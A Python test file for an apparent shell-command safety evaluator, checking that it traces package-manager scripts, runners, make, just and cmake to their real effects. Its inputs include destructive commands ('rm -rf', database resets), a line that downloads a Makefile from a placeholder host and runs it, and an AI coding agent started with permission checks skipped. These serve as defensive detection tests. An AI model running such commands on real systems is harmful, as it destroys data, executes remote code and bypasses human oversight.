"""Package managers: scripts, programs of packages, programs in environments; make and just."""

import pytest

from tests.readers.shell.evaluation import effects, reading, rules

FILES: dict[str, str | None] = {
    "/work/app/package.json": '{"scripts": {"x": "rm -rf src", "test": "jest", "postinstall": "id"}}',
    "/work/app/Makefile": "all:\n\tid\n",
}


def handed(line: str, files: dict[str, str | None] = FILES) -> list[tuple[str, dict[str, str]]]:
    """(language, options) of build payloads."""
    return [
        (payload.language, dict(payload.options))
        for payload in reading(line, files=files).payloads
        if payload.language in ("package-script", "makefile", "justfile")
    ]


@pytest.mark.parametrize(
    ("line", "options"),
    [
        ("npm run x -- --a 'b c'", {"script": "x", "arguments": "--a 'b c'"}),
        ("npm run-script x", {"script": "x", "arguments": ""}),
        ("npm t", {"script": "test", "arguments": ""}),
        ("npm test", {"script": "test", "arguments": ""}),
        ("yarn x", {"script": "x", "arguments": ""}),
        ("yarn run x", {"script": "x", "arguments": ""}),
        ("pnpm x", {"script": "x", "arguments": ""}),
        ("pnpm --filter a run x", {"script": "x", "arguments": ""}),
        ("bun run x", {"script": "x", "arguments": ""}),
        ("cd src && npm run x", {"script": "x", "arguments": ""}),
        ("npm i", {"script": "install"}),
        ("yarn", {"script": "install"}),
    ],
)
def test_scripts_are_handed_on(line: str, options: dict[str, str]) -> None:
    """With the project's file, found here or above."""
    assert ("package-script", options) in handed(line)


@pytest.mark.parametrize("line", ["npm run y", "npm i --ignore-scripts", "npm ls", "npx x", "pnpm exec x"])
def test_without_a_script_nothing_is(line: str) -> None:
    """No script of that name, or none that runs."""
    assert handed(line) == []


@pytest.mark.parametrize(
    "runner",
    [
        "npx",
        "npx -y",
        "npx --yes --",
        "pnpm exec",
        "pnpm dlx",
        "yarn dlx",
        "bunx",
        "npm exec --",
        "yarn",
        "pnpm",
        "uv run",
        "uvx",
        "poetry run",
        "bundle exec",
        "cross-env A=b",
        "conda run -n x",
        "node_modules/.bin/cross-env",
    ],
)
def test_what_runs_inside_is_judged(runner: str) -> None:
    """A known program behind any runner."""
    assert "prisma.migrate.reset" in rules(f"{runner} prisma migrate reset")


def test_versions_and_scopes_are_cut_off() -> None:
    """The program of a package, whatever its version."""
    assert "prisma.migrate.reset" in rules("npx prisma@5.1 migrate reset")
    assert "claude.unguarded" in rules("npx @anthropic-ai/claude-code@latest --dangerously-skip-permissions")


def test_scripts_of_python_runners_are_read() -> None:
    """``uv run file.py`` and ``uv run -m module``."""
    found = reading("uv run a.py", files={"/work/app/a.py": "x"})
    assert ("python", "x") in {(payload.language, payload.text) for payload in found.payloads}
    assert "manage.py.flush.empties" in rules("uv run manage.py flush")
    assert "pytest runs the project's own code" in reading("uv run -m pytest").opaque


def test_trees_are_deleted() -> None:
    """``rimraf`` is ``rm -rf``."""
    assert effects("rimraf a b") == {"delete /work/app/a", "delete /work/app/b"}


@pytest.mark.parametrize(
    ("line", "language", "options"),
    [
        ("make all", "makefile", {"target": "all"}),
        ("make -C . X=1 all", "makefile", {"target": "all", "setting": "X=1"}),
        ("make", "makefile", {}),
        ("make -f Makefile", "makefile", {}),
    ],
)
def test_recipes_are_handed_on(line: str, language: str, options: dict[str, str]) -> None:
    """Targets and settings of make."""
    assert (language, options) in handed(line)


def test_recipes_written_in_the_line_count() -> None:
    """A file of this very line."""
    assert ("justfile", {"recipe": "x"}) in handed("printf 'x:\\n  id\\n' > justfile; just x", {})
    assert "flow.remote-code" in rules("curl https://a.example > Makefile; make")


def test_listing_recipes_runs_none() -> None:
    """``just --list``."""
    assert handed("just --list", {"/work/app/justfile": "x:\n  id\n"}) == []


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("cmake -E rm -rf x", "delete /work/app/x"),
        ("cmake -E copy a b", "write /work/app/b"),
        ("cmake -E env A=b rm x", "delete /work/app/x"),
    ],
)
def test_file_tools_of_cmake(line: str, effect: str) -> None:
    """``cmake -E`` does what its word says."""
    assert effect in effects(line)
